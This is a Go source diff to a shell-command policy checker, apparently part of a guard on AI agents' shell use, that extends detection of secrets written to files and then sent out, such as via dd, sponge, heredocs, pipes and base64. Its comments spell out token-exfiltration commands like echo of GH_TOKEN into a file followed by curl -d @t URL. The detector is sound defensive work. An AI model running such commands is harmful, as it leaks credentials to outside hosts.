@@ -1,6 +1,7 @@
 package policy
 
 import (
+	"slices"
 	"strings"
 
 	"github.com/agenthooks/agenthooks/guard/shell"
@@ -8,13 +9,15 @@ import (
 
 // A secret value written to a file is sent from it as surely as from the variable: echo
 // "$GH_TOKEN" > t; curl -d @t URL sends the token. The line is followed in the order it runs:
-// each file a redirection (or tee) writes holds what the command that writes it prints, a
-// secret when that command prints one (echo or printf of a secret variable or of a copy of
-// one, printenv NAME, cat or tee of a here-string, gh auth token and the other credentialOutput
-// commands); a later write of something else forgets it. A sender that then names the file
-// (curl -d @t, -F f=@t, -F f=<t, -T t, --data-binary @t, wget --post-file=t), reads it on
-// stdin (curl -d @- URL < t), or is piped what cat prints of it is judged as for the value
-// itself (secretValueSent).
+// each file a redirection, tee, sponge or dd of= writes holds what the command that writes it
+// prints, a secret when that command prints one (echo or printf of a secret variable, of a
+// copy of one or of a credential command's substitution, printenv NAME, gh auth token and the
+// other credentialOutput commands) or copies one from its stdin (cat, tee, dd, an encoder fed
+// a here-string, an unquoted heredoc or a pipe from such a command: Invocation.PipedFrom); a
+// later write of something else forgets it. A sender that then names the file (curl -d @t,
+// -F f=@t, -F f=<t, -T t, --data-binary @t, wget --post-file=t), reads it on stdin (curl -d
+// @- URL < t), or is piped what cat prints of it is judged as for the value itself
+// (secretValueSent).
 
 // secretFileSent finds a sender on the line that sends a file written, earlier on the same
 // line, from a secret value to a place the value does not belong: the sender's index and the
@@ -38,7 +41,7 @@ func secretFileSent(s *shell.Script, piped func(secretValue) (int, bool)) (int, 
 			}
 		}
 		for _, f := range writtenFiles(inv) {
-			if v, ok := printsSecret(inv); ok {
+			if v, ok := printsSecret(s, inv); ok {
 				if written == nil {
 					written = map[string]secretValue{}
 				}
@@ -58,7 +61,7 @@ type fileWrite struct {
 }
 
 // writtenFiles lists the files an invocation writes what it prints to: its output
-// redirections, and tee's operands.
+// redirections, tee's and sponge's operands, and dd's of=.
 func writtenFiles(inv *shell.Invocation) []fileWrite {
 	var out []fileWrite
 	add := func(p string, appends bool) {
@@ -77,7 +80,8 @@ func writtenFiles(inv *shell.Invocation) []fileWrite {
 			add(r.Target.Value, true)
 		}
 	}
-	if inv.Name == "tee" {
+	switch inv.Name {
+	case "tee", "sponge":
 		appends := false
 		for _, w := range inv.Args[1:] {
 			switch v := w.Value; {
@@ -88,14 +92,36 @@ func writtenFiles(inv *shell.Invocation) []fileWrite {
 				add(v, appends)
 			}
 		}
+	case "dd":
+		appends := false
+		for _, w := range inv.Args[1:] {
+			appends = appends || strings.HasPrefix(w.Value, "oflag=") && strings.Contains(w.Value, "append")
+		}
+		for _, w := range inv.Args[1:] {
+			if p, ok := strings.CutPrefix(w.Value, "of="); ok {
+				add(p, appends)
+			}
+		}
 	}
 	return out
 }
 
 // printsSecret is the secret value an invocation prints, or ok false: a secret variable (or a
-// copy of one) that echo or printf prints, the variable printenv NAME prints, a here-string of
-// one that cat or tee copies, or a command that prints a credential.
-func printsSecret(inv *shell.Invocation) (secretValue, bool) {
+// copy of one, or a command that prints a credential as a substitution) that echo or printf
+// prints, the variable printenv NAME prints, a command that prints a credential, or what a
+// command that copies its stdin (cat, tee, dd, base64, ...) reads from a here-string, an
+// unquoted heredoc or a pipe that carries one.
+func printsSecret(s *shell.Script, inv *shell.Invocation) (secretValue, bool) {
+	return printedSecret(s, inv, 0)
+}
+
+// maxPipeStages bounds how far back along a pipeline printedSecret looks.
+const maxPipeStages = 8
+
+func printedSecret(s *shell.Script, inv *shell.Invocation, depth int) (secretValue, bool) {
+	if len(inv.Args) == 0 {
+		return secretValue{}, false
+	}
 	if v, ok := credentialOutput(inv); ok {
 		return v, true
 	}
@@ -113,21 +139,85 @@ func printsSecret(inv *shell.Invocation) (secretValue, bool) {
 				return v, true
 			}
 		}
-	case "cat", "tee":
+	}
+	if copiesStdin(inv) {
 		for _, r := range inv.Redirects {
-			if r.Op == "<<<" && !r.Target.Static {
+			if (r.Op == "<<<" || r.Op == "<<" || r.Op == "<<-") && !r.Target.Static {
 				raws = append(append(raws, r.Target.Raw), r.Target.From...)
 			}
 		}
+		for _, j := range inv.PipedFrom {
+			if depth < maxPipeStages && j >= 0 && j < len(s.Invocations) {
+				if v, ok := printedSecret(s, &s.Invocations[j], depth+1); ok {
+					return v, true
+				}
+			}
+		}
 	}
+	return secretIn(s, raws)
+}
+
+// secretIn is the secret that text as written expands, or ok false: a secret variable, or a
+// command substitution of a command that prints a credential ("$(gh auth token)").
+func secretIn(s *shell.Script, raws []string) (secretValue, bool) {
 	for _, raw := range raws {
 		for _, name := range shell.VariablesIn(raw) {
 			if v, ok := secretVariable(name); ok {
 				return v, true
 			}
 		}
+		if !strings.Contains(raw, "$(") && !strings.Contains(raw, "`") {
+			continue
+		}
+		for i := range s.Invocations {
+			inv := &s.Invocations[i]
+			if len(inv.Args) == 0 || !inv.Under("$(…)") ||
+				!strings.Contains(raw, "$("+inv.Name+" ") && !strings.Contains(raw, "`"+inv.Name+" ") {
+				continue
+			}
+			if v, ok := credentialOutput(inv); ok {
+				return v, true
+			}
+		}
 	}
 	return secretValue{}, false
+}
+
+// copiesStdin reports whether a command prints (or writes to its files) what it reads on
+// stdin, as it is or encoded so that it can be decoded: tee and sponge; cat, dd and the
+// encoders and filters when no operand names another file to read. A digest or a count of it
+// (sha256sum, wc) is not the secret.
+func copiesStdin(inv *shell.Invocation) bool {
+	var valueOpts []string
+	switch inv.Name {
+	case "tee", "sponge", "tr":
+		return true
+	case "dd":
+		for _, w := range inv.Args[1:] {
+			if v, ok := strings.CutPrefix(w.Value, "if="); ok && v != "-" && v != "/dev/stdin" {
+				return false
+			}
+		}
+		return true
+	case "cat", "base64", "base32", "basenc", "rev", "gzip", "bzip2", "xz", "zstd", "lz4", "od", "hexdump", "xxd":
+	case "head", "tail":
+		valueOpts = []string{"-n", "-c", "--lines", "--bytes"}
+	case "fold":
+		valueOpts = []string{"-w", "--width"}
+	default:
+		return false
+	}
+	for k := 1; k < len(inv.Args); k++ {
+		v := inv.Args[k].Value
+		switch {
+		case slices.Contains(valueOpts, v):
+			k++
+		case v == "-" || v == "/dev/stdin" || strings.HasPrefix(v, "-") && v != "--":
+		default:
+			return false // reads the file it names
+		}
+	}
+	return true
 }
 
 // sentFromFile is the secret a sender sends from a file written earlier on the line, when it
